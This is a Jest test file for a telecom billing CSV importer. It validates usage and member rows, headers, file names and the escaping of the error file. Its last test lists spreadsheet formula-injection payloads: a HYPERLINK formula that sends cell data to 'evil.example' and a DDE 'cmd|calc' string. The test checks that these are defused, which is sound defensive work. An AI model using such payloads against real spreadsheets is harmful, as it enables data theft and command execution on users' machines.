import { errorLine } from '../../domain/files/csv-line.js';
import { instant } from '../../domain/files/fields.js';
import { isJobId, readFileName } from '../../domain/files/file-name.js';
import { columnName, headerProblems } from '../../domain/files/header.js';
import { readMemberRow } from '../../domain/files/member-row.js';
import { readUsageRow, REQUIRED_USAGE_COLUMNS, USAGE_COLUMNS } from '../../domain/files/usage-row.js';

const NOW = Date.UTC(2026, 10, 22, 12);
const usage = {
  record_id: 'r-1',
  supi: '234150000000001',
  msisdn: '',
  rating_group: '1000',
  start_time: '2026-11-21T09:30:00+01:00',
  bytes: '1500000',
  seconds: '',
  messages: '',
  called_number: '',
  visited_network: '',
};

test('a usage row is what it says', () => {
  expect(readUsageRow(2, usage, NOW)).toEqual({
    row: 2,
    recordId: 'r-1',
    subscriber: 'imsi-234150000000001',
    ratingGroup: 1000,
    units: { bytes: 1_500_000 },
    atMs: Date.UTC(2026, 10, 21, 8, 30),
    destination: '',
  });
  const call = {
    ...usage,
    supi: '',
    msisdn: '+447700900001',
    bytes: '',
    seconds: '61',
    called_number: '+33 1 23 45 67 89',
    visited_network: '208-01',
  };
  expect(readUsageRow(3, call, NOW)).toMatchObject({
    subscriber: 'msisdn-447700900001',
    units: { seconds: 61 },
    destination: '33123456789',
    visited: '20801',
  });
  expect(readUsageRow(4, { ...call, called_number: 'sos' }, NOW)).toMatchObject({ destination: 'sos' });
});

test('everything that is wrong with a usage row is told at once, with its value', () => {
  const errors = readUsageRow(
    7,
    {
      record_id: 'a b',
      supi: 'imsi-12',
      msisdn: '0770',
      rating_group: '4294967296',
      start_time: '2026-02-30T00:00:00Z',
      bytes: '1.5',
      seconds: '5',
      messages: '',
      called_number: 'alice',
      visited_network: '2340',
    },
    NOW,
  );
  expect(errors).toEqual(
    expect.arrayContaining(
      [
        ['record_id', 'a b', /1 to 64 visible/],
        ['supi', 'imsi-12', /SUPI or IMSI/],
        ['msisdn', '0770', /E\.164/],
        ['rating_group', '4294967296', /0 to 4294967295/],
        ['start_time', '2026-02-30T00:00:00Z', /ISO 8601/],
        ['bytes', '1.5', /whole number/],
        ['bytes', '1.5', /one of bytes, seconds/],
        ['seconds', '5', /one of bytes, seconds/],
        ['called_number', 'alice', /digits/],
        ['visited_network', '2340', /MCC-MNC/],
      ].map(([column, value, message]) => ({
        row: 7,
        column,
        value,
        message: expect.stringMatching(message as RegExp) as string,
      })),
    ),
  );
  expect(errors).toHaveLength(10);
});

test.each([
  ['supi', { supi: '' }, /missing, as is msisdn/],
  ['bytes', { bytes: '' }, /missing, as are seconds and messages/],
  ['start_time', { start_time: '2026-11-21T09:30:00' }, /with its offset/],
  ['start_time', { start_time: '2026-11-22T13:00:01Z' }, /an hour ahead/],
  ['start_time', { start_time: '2025-10-18T11:59:59Z' }, /400 days ago/],
  ['record_id', { record_id: '' }, /missing/],
  ['rating_group', { rating_group: '-1' }, /whole number/],
  ['bytes', { bytes: '1125899906842625' }, /1125899906842624/],
])('%s %j is refused', (column, change, message) => {
  expect(readUsageRow(2, { ...usage, ...change }, NOW)).toEqual([
    { row: 2, column, value: Object.values(change)[0], message: expect.stringMatching(message) as string },
  ]);
});

test('instants have an offset, and days that there are', () => {
  expect(instant('2028-02-29T23:59:59.25-0330')).toBe(Date.UTC(2028, 1, 29, 23, 59, 59, 250) + 12_600_000);
  for (const wrong of [
    '2026-02-29T00:00:00Z',
    '2026-13-01T00:00:00Z',
    '2026-01-01T24:00:00Z',
    '2026-01-01',
    '',
  ]) {
    expect(instant(wrong)).toBeUndefined();
  }
});

test('a header may have its columns in any order, and tells all that is wrong', () => {
  const problems = (...names: string[]) =>
    headerProblems(names.map(columnName), USAGE_COLUMNS, REQUIRED_USAGE_COLUMNS);
  expect(problems('\uFEFFRecord ID', 'start-time', 'MSISDN', 'Rating Group', 'Seconds')).toEqual([]);
  expect(problems('record_id', 'record_id', 'price')).toEqual([
    `column "price" is not known; allowed: ${USAGE_COLUMNS.join(', ')}`,
    'column "record_id" is there more than once',
    'column supi or msisdn is missing',
    'column rating_group is missing',
    'column start_time is missing',
    'column bytes or seconds or messages is missing',
  ]);
});

const member = {
  company: 'acme',
  cost_centre: 'sales',
  name: 'Ada Löwe',
  msisdn: '+49 1511 000'.replaceAll(' ', '') + '0001',
  iccid: '8949010000000000017',
  imsi: '262010000000001',
  plan: 'team',
  cap: '25.00',
};

test('a member row is what it says', () => {
  const iccid = '894901000000000001';
  const valid = Array.from({ length: 10 }, (_, digit) =>
    readMemberRow(2, { ...member, iccid: `${iccid}${digit}` }),
  );
  const rows = valid.filter((each) => 'row' in each);
  // One check digit of ten fits.
  expect(rows).toHaveLength(1);
  expect(rows[0]).toMatchObject({
    company: 'acme',
    costCentre: 'sales',
    name: 'Ada Löwe',
    msisdn: 'msisdn-4915110000001',
    supi: 'imsi-262010000000001',
    plan: 'team',
    capMicros: 25_000_000,
  });
});

test('everything that is wrong with a member row is told at once', () => {
  const errors = readMemberRow(3, {
    company: '',
    cost_centre: 'a/b',
    name: 'x'.repeat(61),
    msisdn: 'none',
    iccid: '8949010000000000011',
    imsi: '26201',
    plan: 'Team!',
    cap: '0',
  });
  expect((errors as readonly { column: string }[]).map(({ column }) => column)).toEqual([
    'company',
    'cost_centre',
    'name',
    'msisdn',
    'iccid',
    'imsi',
    'plan',
    'cap',
  ]);
});

test('a file is named by its key, what we write is left alone', () => {
  expect(readFileName('usage/2026/11-22.csv')).toEqual({
    kind: 'usage',
    jobId: 'usage~2026~11-22',
    errorsKey: 'usage/2026/11-22.errors.csv',
    resultKey: 'usage/2026/11-22.result.json',
  });
  expect(isJobId('usage~2026~11-22')).toBe(true);
  expect(isJobId('other~x')).toBe(false);
  expect(readFileName('usage/a.errors.csv')).toBeUndefined();
  expect(readFileName('usage/a.result.json')).toBeUndefined();
  expect(readFileName('usage/')).toBeUndefined();
  for (const wrong of [
    'usage/a b.csv',
    'usage/.csv',
    'usage/a.txt',
    'other/a.csv',
    'usage/a~b.csv',
    'usage//a.csv',
  ]) {
    expect(readFileName(wrong)).toHaveProperty('problem');
  }
});

test('errors are CSV, whatever the values are', () => {
  expect(errorLine('r,1', { row: 3, column: 'supi', value: 'a "b"\nc', message: 'no' })).toBe(
    '3,"r,1",supi,"a ""b""\nc",no\n',
  );
  expect(errorLine('r', { row: 3, column: 'x', value: 'y'.repeat(500), message: 'no' }).length).toBeLessThan(
    220,
  );
});

test.each([
  ['=HYPERLINK("https://evil.example/?"&A1)', `"'=HYPERLINK(""https://evil.example/?""&A1)"`],
  ['+1+cmd|calc', "'+1+cmd|calc"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  [' =1+1', "' =1+1"],
  ['\t=1', "'\t=1"],
  ['＝1+1', "'＝1+1"],
  ['+447700900001', '+447700900001'],
  ['-5.00', '-5.00'],
  ['O=K', 'O=K'],
])('in an errors file %j is no formula', (value, shown) => {
  expect(errorLine(value, { row: 3, column: 'name', value, message: 'no' })).toBe(
    `3,${shown},name,${shown},no\n`,
  );
});
